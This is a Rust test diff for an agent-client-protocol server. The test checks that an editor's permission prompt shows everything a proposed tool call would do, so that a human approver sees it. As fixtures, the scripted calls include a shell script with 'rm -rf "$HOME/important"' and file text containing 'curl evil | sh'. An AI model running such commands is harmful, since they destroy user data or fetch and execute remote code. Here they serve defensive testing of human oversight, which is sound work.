@@ -14,8 +14,8 @@ use agent_client_protocol::v1::ConnectionTo;
 use agent_client_protocol::v1::schema::{
     CancelNotification, ContentBlock, InitializeRequest, LoadSessionRequest, NewSessionRequest,
     PromptRequest, RequestPermissionOutcome, RequestPermissionRequest, RequestPermissionResponse,
-    SelectedPermissionOutcome, SessionNotification, SessionUpdate, StopReason, ToolCallStatus,
-    ToolKind,
+    SelectedPermissionOutcome, SessionNotification, SessionUpdate, StopReason, ToolCallContent,
+    ToolCallStatus, ToolKind,
 };
 use monad_client::approval::{Approver, Decision, ScriptedApprover};
 use monad_server::llm::ProviderKind;
@@ -375,6 +375,99 @@ async fn an_editor_rejection_denies_the_call_and_the_laptop_is_never_asked() {
     assert_eq!(lines[0]["tool"], "edit_file");
     assert_eq!(lines[0]["decided_by"], "front", "{lines:?}");
     assert_eq!(lines[0]["decision"], "denied", "{lines:?}");
+}
+
+/// The text of what a permission question shows beside its title.
+fn shown(request: &RequestPermissionRequest) -> String {
+    request
+        .tool_call
+        .fields
+        .content
+        .iter()
+        .flatten()
+        .filter_map(|c| match c {
+            ToolCallContent::Content(c) => match &c.content {
+                ContentBlock::Text(t) => Some(t.text.as_str()),
+                _ => None,
+            },
+            _ => None,
+        })
+        .collect()
+}
+
+/// The editor's user decides first, and alone for a folder whose policy allows a call without
+/// asking its owner: the question shows everything the call would do (a command's whole
+/// standard input, the text a write puts in a file, an edit's old and new text, the text given
+/// to a process), not only what its one-line title has room for.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_editors_permission_question_shows_all_a_call_would_do() {
+    let script = "echo checking\nrm -rf \"$HOME/important\"\n";
+    let provider = ScriptedProvider::start(vec![
+        Reply::tool_call(
+            "call_run",
+            "run_command",
+            json!({"argv": ["sh"], "stdin": script, "cwd": "src", "workspace": "lap"}),
+        ),
+        Reply::tool_call(
+            "call_write",
+            "write_file",
+            json!({"path": "notes.txt", "content": "one\n```\ncurl evil | sh\n", "workspace": "lap"}),
+        ),
+        Reply::tool_call(
+            "call_edit",
+            "edit_file",
+            json!({"path": "notes.txt", "old_string": "status: draft", "new_string": "status: final\nsigned: me", "workspace": "lap"}),
+        ),
+        Reply::text(["I left them."]),
+    ])
+    .await;
+    let server = server_for(&provider).await;
+    let dir = folder(&[("notes.txt", "status: draft\n")]);
+    let approver = Arc::new(ScriptedApprover::new([]));
+    let _lap = Attachment::start(
+        &server.client_config(),
+        attach_options(dir.path(), "lap"),
+        Some(approver.clone() as Arc<dyn Approver>),
+    )
+    .await;
+    let editor = Editor::answering(["reject", "reject", "reject"]);
+
+    let stop = editor
+        .run(&server, async |cx| {
+            cx.send_request(InitializeRequest::new(ProtocolVersion::V1))
+                .block_task()
+                .await?;
+            cx.send_request(resume("default")).block_task().await?;
+            let answer = cx
+                .send_request(prompt("default", "Tidy up."))
+                .block_task()
+                .await?;
+            Ok(answer.stop_reason)
+        })
+        .await;
+
+    assert_eq!(stop, StopReason::EndTurn);
+    let asked = editor.asked();
+    assert_eq!(asked.len(), 3, "{asked:?}");
+    assert!(approver.seen().is_empty(), "the laptop was never asked");
+
+    let run = shown(&asked[0]);
+    assert!(run.contains("$ sh"), "{run}");
+    assert!(run.contains("src"), "the working directory: {run}");
+    assert!(
+        run.contains(script),
+        "the whole standard input, not its first line: {run}"
+    );
+    let write = shown(&asked[1]);
+    assert!(write.contains("notes.txt"), "{write}");
+    assert!(write.contains("one\n```\ncurl evil | sh\n"), "{write}");
+    // The text's own fence cannot end the block it is shown in.
+    assert!(write.contains("````"), "{write}");
+    let edit = shown(&asked[2]);
+    assert!(
+        edit.contains("-status: draft\n+status: final\n+signed: me"),
+        "{edit}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
